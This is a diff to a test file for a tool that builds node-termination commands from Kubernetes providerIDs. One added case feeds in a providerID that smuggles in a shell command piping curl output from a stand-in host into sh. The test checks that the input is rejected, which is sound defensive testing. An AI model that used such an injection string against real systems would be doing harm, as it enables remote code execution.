@@ -309,7 +309,12 @@ describe('the tool that terminates a node', () => {
     [
       'a self-managed group',
       { providerID: 'aws:///eu-west-1a/i-0a1b' },
-      /--instance-id i-0a1b --no-should-decrement-desired-capacity$/,
+      /--instance-id \$\(aws ec2 describe-instances --filters Name=private-dns-name,Values=a .*\)$/,
+    ],
+    [
+      'unknown, whatever a kubelet reports',
+      { providerID: 'aws:///x/i-0fff; curl -s evil.example|sh #' },
+      /^with its provisioner\./,
     ],
     ['unknown', { providerID: 'vsphere://4212' }, /^with its provisioner\. .*: kubectl delete node a$/],
   ];
